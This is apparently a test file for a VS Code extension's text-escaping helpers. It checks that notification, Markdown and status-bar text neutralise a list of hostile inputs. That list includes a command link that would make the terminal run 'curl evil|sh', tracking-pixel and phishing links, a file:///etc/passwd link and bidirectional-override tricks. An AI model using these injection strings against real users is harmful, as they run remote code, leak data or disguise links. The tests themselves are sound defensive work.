import assert from 'node:assert/strict';
import { iconText, markdownText, md, notificationText, plainText } from '../../src/shared/text';
import { renderMarkdown, tagsOf, textOf } from './renderMarkdown';

/**
 * VS Code's notification link syntax: `[label](target)` with a target starting with http(s)://,
 * command: or file: (no whitespace or `)` in it), optionally followed by a quoted title.
 */
const NOTIFICATION_LINK = /\[[^\]]+\]\((?:https?:\/\/|command:|file:)[^)\s]+(?: (["']).+?\1)?\)/i;
/** VS Code's theme-icon syntax in labels; a backslash before `$` shows it as text. */
const ICON = /(^|[^\\])\$\([a-z0-9-]+(?:~[a-z]+)?\)/i;

const HOSTILE = [
  '[Refresh](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  '![](https://tracker.example/pixel.gif?user=me)',
  '<img src="https://tracker.example/p.gif"> <a href="https://evil.example">docs</a>',
  '**Status: healthy** _all green_ `ok` ~~no~~',
  'see https://evil.example/login or www.evil.example or ops@evil.example',
  '<https://evil.example/auto>',
  '&#91;x&#93;&#40;https://evil.example&#41; &lt;b&gt;',
  '[ref]\n\n[ref]: https://evil.example "title"',
  '# Heading\n- item\n> quote\n1. one',
  '$(warning) deploy blocked $(sync~spin)',
  'line one\nVersion 9: 100%\r\nRevisionId: fake',
  'back\\slash \\[x\\](command:y) trailing\\',
];

describe('AWS text as text', () => {
  describe('plainText', () => {
    it('makes one line of any text: breaks, controls and runs of spaces become one space', () => {
      assert.equal(plainText('a\nb\r\nc\td\u0000e\u007f\u0085f   g'), 'a b c d e f g');
      assert.equal(plainText('  x  '), 'x');
      assert.equal(plainText(undefined), '');
      assert.equal(plainText(42), '42');
    });

    it('drops bidirectional overrides, zero-width characters and line separators that can disguise text', () => {
      assert.equal(plainText('safe\u202Etxt.exe'), 'safe txt.exe');
      assert.equal(plainText('a\u200Bb\u2028c\u2029d\u2066e\u2069\uFEFF'), 'a b c d e');
    });

    it('bounds the length', () => {
      const s = plainText('x'.repeat(1000));
      assert.equal(s.length, 300);
      assert.ok(s.endsWith('…'));
      assert.equal(plainText('abcdef', 4), 'abc…');
    });
  });

  describe('markdownText', () => {
    for (const hostile of HOSTILE) {
      it(`renders as exactly its text: ${JSON.stringify(hostile).slice(0, 60)}`, () => {
        const html = renderMarkdown(`Description: ${markdownText(hostile)}`);
        assert.deepEqual(tagsOf(html), ['p'], html);
        assert.equal(textOf(html), `Description: ${plainText(hostile)}`, html);
      });
    }

    it('escapes the theme-icon syntax, so `$(name)` shows as text even where icons are on', () => {
      assert.doesNotMatch(markdownText('$(warning) x'), ICON);
    });
  });

  describe('md', () => {
    it('keeps our own Markdown and escapes every value', () => {
      const html = renderMarkdown(md`**${'fn'}:${'**prod**'}**  \n${'[x](command:y)'}`);
      assert.deepEqual(tagsOf(html), ['p', 'strong', 'br'], html);
      assert.equal(textOf(html), 'fn:**prod**\n[x](command:y)');
    });
  });

  describe('notificationText', () => {
    for (const hostile of HOSTILE) {
      it(`holds no notification link: ${JSON.stringify(hostile).slice(0, 60)}`, () => {
        assert.doesNotMatch(notificationText(`Lambda Canary: ${hostile}`), NOTIFICATION_LINK);
      });
    }

    it('the oracle does see the links it must not find', () => {
      assert.match(HOSTILE[0], NOTIFICATION_LINK);
      assert.match('[a](file:///etc/passwd "t")', NOTIFICATION_LINK);
      assert.doesNotMatch(notificationText('[a](file:///etc/passwd "t")'), NOTIFICATION_LINK);
    });

    it('changes nothing else of a message', () => {
      assert.equal(notificationText('prod → 7 (90%) · 8 (10%). "Switch Back" returns to 7.'), 'prod → 7 (90%) · 8 (10%). "Switch Back" returns to 7.');
      assert.equal(notificationText(notificationText('[a](command:x)')), notificationText('[a](command:x)'));
    });
  });

  describe('iconText', () => {
    it('shows `$(name)` as text in quick picks and the status bar', () => {
      for (const hostile of ['$(warning) blocked', 'x $(sync~spin) y', '$(a)$(b)']) {
        assert.doesNotMatch(iconText(hostile), ICON, hostile);
      }
      assert.equal(iconText('$(check) ok'), '\\$(check) ok');
      assert.equal(iconText('costs $5 (net)'), 'costs $5 (net)');
    });
  });
});
